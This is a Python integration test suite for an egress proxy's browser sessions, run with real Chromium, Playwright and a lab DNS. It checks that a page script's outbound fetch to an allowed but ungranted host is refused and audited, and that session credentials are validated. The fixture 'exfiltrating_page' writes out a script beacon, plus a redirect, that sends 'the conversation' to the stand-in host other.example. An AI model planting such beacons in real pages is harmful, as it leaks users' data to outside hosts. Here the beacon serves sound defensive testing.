"""The browser side of sessions, with real Chromium, the real proxy, the lab's DNS and stand-ins.

* ``egresswall browse`` reads a page under a session granting its URL: the page's script calls
  ``fetch('https://other.example/?q=...')`` — a host the policy allows — and the session refuses it
  (before the name is even looked up), and the report says so; with ``--subresources policy`` the same
  fetch is let through, which shows it was the session that refused.
* ``egresswall browser-server``: a Playwright client connects to ``ws://.../session/ID?secret=...``,
  reads the granted page, and its script's fetch to another allowed host is refused with
  ``session:not-granted`` in the proxy's audit log, under the session's id; the client cannot pass a proxy
  of its own; a malformed session URL is refused at the handshake.
"""

from __future__ import annotations

import asyncio
import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest
from dnslab import Record
from labnet import PUBLIC_IP
from session_client import create, token_file
from test_browser_server import ServerProcess
from unprivileged import NO_SANDBOX_ARGS

CHROMIUM = "/usr/lib/chromium/chromium"
ROOT = Path(__file__).resolve().parent.parent
BEACON_HOST = "other.example"  # another registrable domain than the lab's pages (lab.example)
pytestmark = [pytest.mark.integration,
              pytest.mark.skipif(not os.path.exists(CHROMIUM),
                                 reason="needs Debian's chromium (ci/install.sh --browser)")]


@pytest.fixture(scope="module")
def beacon_lab(lab):
    """The lab, with a name on another site that resolves to the public stand-in (so the policy allows it)."""
    lab.dns.set(BEACON_HOST, [Record("A", PUBLIC_IP)])
    return lab


def exfiltrating_page(lab, name: str) -> str:
    """A page on public.lab.example whose script sends 'the conversation' to other.example over https and
    which loads an image from a same-site host (other.lab.example); returns its URL."""
    beacon = f"https://{BEACON_HOST}:{lab.public_tls.port}/beacon-{name}?q=the-conversation"
    path = lab.public.serve(f"/page-{name}", (
        "<html><head><title>Session page</title></head><body><article><h1>Session page</h1>"
        "<p>The first paragraph of a page read under a session, worth reading.</p>"
        f"<p><img src='http://other.lab.example:{lab.public.port}/pixel-{name}' alt='pixel'></p></article>"
        f"<script>fetch('{beacon}').catch(() => {{}});</script></body></html>"))
    return f"http://public.lab.example:{lab.public.port}{path}"


def browse(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "proxy.cli", "browse", *args, *NO_SANDBOX_ARGS], cwd=ROOT,
                          capture_output=True, text=True, timeout=180)


def paths_seen(upstream, prefix: str) -> list[str]:
    return [path for _, path, _ in upstream.requests if path.startswith(prefix)]


# ---- egresswall browse ----------------------------------------------------------------------------------

def test_browse_reads_the_page_and_reports_the_scripts_fetch_the_session_refused(beacon_lab, tmp_path):
    lab = beacon_lab
    policy = tmp_path / "policy.yaml"
    policy.write_text(lab.policy_text())  # default allow: other.example is a host the policy allows
    url = exfiltrating_page(lab, "default")
    done = browse(url, "--policy", str(policy), "--format", "json", "--timeout", "20")
    assert done.returncode == 0, done.stderr
    result = json.loads(done.stdout)
    assert result["read"] and "worth reading" in result["content"], result
    refused = {r["url"]: r for r in result["refused_requests"]}
    beacon = f"https://{BEACON_HOST}:{lab.public_tls.port}/beacon-default"
    assert set(refused) == {beacon}, refused  # the same-site image was not refused
    assert refused[beacon]["rule"] == "session:not-granted"
    assert f"does not grant {BEACON_HOST}:{lab.public_tls.port}" in refused[beacon]["reason"]
    assert "the-conversation" not in done.stdout  # the query is what leaves: it is never shown
    # The session is judged before the name is resolved: other.example was never even looked up, and no
    # stand-in saw the beacon; the same-site image (--subresources same-site, the default) was fetched.
    assert not lab.dns.queried(BEACON_HOST)
    assert not paths_seen(lab.public_tls, "/beacon-default")
    assert paths_seen(lab.public, "/pixel-default")

    text = browse(url, "--policy", str(policy), "--timeout", "20", "--subresources", "none")
    assert text.returncode == 0, text.stderr
    assert f"Refused:   https://{BEACON_HOST}:{lab.public_tls.port}/beacon-default (session:not-granted:" in text.stdout
    assert f"Refused:   http://other.lab.example:{lab.public.port}/pixel-default (session:not-granted:" in text.stdout
    assert len(paths_seen(lab.public, "/pixel-default")) == 1  # none: not even the same-site image

    # The control: without a session (--subresources policy) the policy lets the same fetch through.
    assert not paths_seen(lab.public, "/pixel-policy")
    done = browse(exfiltrating_page(lab, "policy"), "--policy", str(policy), "--format", "json",
                  "--timeout", "20", "--subresources", "policy")
    assert done.returncode == 0, done.stderr
    result = json.loads(done.stdout)
    assert "refused_requests" not in result, result
    assert lab.dns.queried(BEACON_HOST)
    # the stand-in answered the tunnel (its lab certificate does not name other.example, so Chromium went no
    # further than the TLS handshake, but the connection was made) and the image was fetched
    assert paths_seen(lab.public, "/pixel-policy")


def test_browse_a_redirect_off_the_granted_url_is_refused_by_the_session(beacon_lab, tmp_path):
    lab = beacon_lab
    lab.public.serve("/redirecting", "<html><head><meta http-equiv='refresh' content='0; url="
                                     f"http://{BEACON_HOST}:{lab.public.port}/landing?q=the-conversation'>"
                                     "</head><body><p>moving</p></body></html>")
    policy = tmp_path / "policy.yaml"
    policy.write_text(lab.policy_text())
    url = f"http://public.lab.example:{lab.public.port}/redirecting"
    done = browse(url, "--policy", str(policy), "--format", "json", "--timeout", "15")
    assert done.returncode == 1, done.stderr
    result = json.loads(done.stdout)
    assert not result["read"] and result["problem"] == "refused" and result["rule"] == "session:not-granted", result
    assert result["final_url"].startswith(f"http://{BEACON_HOST}:{lab.public.port}/landing")
    assert not paths_seen(lab.public, "/landing")


def test_browse_subresources_needs_the_in_process_proxy():
    done = browse("http://public.lab.example/", "--proxy", "127.0.0.1:9", "--subresources", "none")
    assert done.returncode == 2 and "--subresources needs the in-process proxy" in done.stderr


# ---- egresswall browser-server, one session per connection ---------------------------------------------

@pytest.fixture
def session_server(beacon_lab, start_proxy, tmp_path):
    proxy = start_proxy(beacon_lab.policy_text("session: required\n"), "--admin-token-file",
                        str(token_file(tmp_path)))
    server = ServerProcess(f"{proxy.host}:{proxy.port}", tmp_path / "server.stderr")
    server.proxy = proxy
    yield server
    assert server.stop() == 0, server.stderr


def wait_for(proxy, predicate, seconds: float = 10) -> list[dict]:
    deadline = time.monotonic() + seconds
    while True:
        found = [r for r in proxy.decisions() if predicate(r)]
        if found or time.monotonic() > deadline:
            return found
        time.sleep(0.1)


def test_a_session_connection_reads_its_link_and_its_scripts_fetch_is_refused(beacon_lab, session_server):
    from playwright.sync_api import Error, sync_playwright

    lab, proxy = beacon_lab, session_server.proxy
    url = exfiltrating_page(lab, "server")
    session = create(proxy.admin_port, {"urls": [url]}, ttl=120)
    endpoint = f"{session_server.endpoint}session/{session['id']}?secret={session['secret']}"
    with sync_playwright() as playwright:
        browser = playwright.chromium.connect(endpoint, timeout=30_000)
        try:
            # a client that passes its own proxy (another identity, or none) is refused by the filter
            with pytest.raises(Error, match="refused this call: Browser.newContext with 'proxy'"):
                browser.new_context(proxy={"server": f"http://{proxy.host}:{proxy.port}", "username": "s-other",
                                           "password": "guess"})
            context = browser.new_context()
            page = context.new_page()
            page.goto(url)
            assert page.title() == "Session page"
            refused = wait_for(proxy, lambda r: r["host"] == BEACON_HOST and r["verdict"] == "refuse")
            context.close()
        finally:
            browser.close()
        # the same session named by the header instead of the path
        browser = playwright.chromium.connect(session_server.endpoint, timeout=30_000, headers={
            "X-Egresswall-Session": f"{session['id']}:{session['secret']}"})
        try:
            page = browser.new_page()
            page.goto(url)
            assert page.title() == "Session page"
        finally:
            browser.close()
    assert refused and {r["rule"] for r in refused} == {"session:not-granted"}, refused
    assert all(r["session"] == session["id"] for r in refused)
    assert not [r for r in proxy.decisions() if r["host"] == BEACON_HOST and r["verdict"] == "allow"]
    assert not paths_seen(lab.public_tls, "/beacon-server")
    granted = [r for r in proxy.decisions() if r["host"] == "public.lab.example" and r["verdict"] == "allow"]
    assert granted and all(r["session"] == session["id"] for r in granted)
    # the image is on another host the URL grant does not cover: refused too, under the same session
    assert {r["rule"] for r in proxy.decisions() if r["host"] == "other.lab.example"} == {"session:not-granted"}
    assert session["secret"] not in session_server.stderr and session["secret"] not in json.dumps(proxy.audit())
    assert f"with session {session['id']}" in session_server.stderr


def test_a_malformed_session_url_is_refused_at_the_handshake_and_a_wrong_secret_by_the_proxy(beacon_lab,
                                                                                            session_server):
    from playwright.sync_api import Error, sync_playwright
    from websockets.asyncio.client import connect
    from websockets.exceptions import InvalidStatus

    async def handshake(path: str) -> tuple[int, str]:
        try:
            async with connect(session_server.endpoint + path, open_timeout=10):
                return 101, ""
        except InvalidStatus as err:
            return err.response.status_code, err.response.body.decode()

    for path in ("session/s1", "session/s1?secret=a+b", "session/bad!id?secret=abc", "session/s1/x?secret=abc"):
        status, body = asyncio.run(handshake(path))
        assert status == 400 and "egresswall browser-server:" in body and "X-Egresswall-Session" in body, (path,
                                                                                                          body)
    metrics = session_server.metrics()
    assert metrics['egresswall_browser_connections_refused_total{reason="session"}'] == 4

    lab, proxy = beacon_lab, session_server.proxy
    url = exfiltrating_page(lab, "wrong-secret")
    session = create(proxy.admin_port, {"urls": [url]}, ttl=120)
    with sync_playwright() as playwright:
        browser = playwright.chromium.connect(
            f"{session_server.endpoint}session/{session['id']}?secret=not-{session['secret']}", timeout=30_000)
        try:
            page = browser.new_page()
            try:
                response = page.goto(url, timeout=15_000)
            except Error:
                response = None
            assert response is None or response.status == 407
        finally:
            browser.close()
    assert not paths_seen(lab.public, "/page-wrong-secret")
    judged = [r for r in proxy.decisions() if r["host"] == "public.lab.example" and (r.get("path") or "").startswith(
        "/page-wrong-secret")] or [r for r in proxy.decisions() if r["rule"] == "session:credentials"]
    assert judged and {r["rule"] for r in judged} <= {"session:credentials", "session:required"}, judged
    assert any(r["rule"] == "session:credentials" for r in judged)
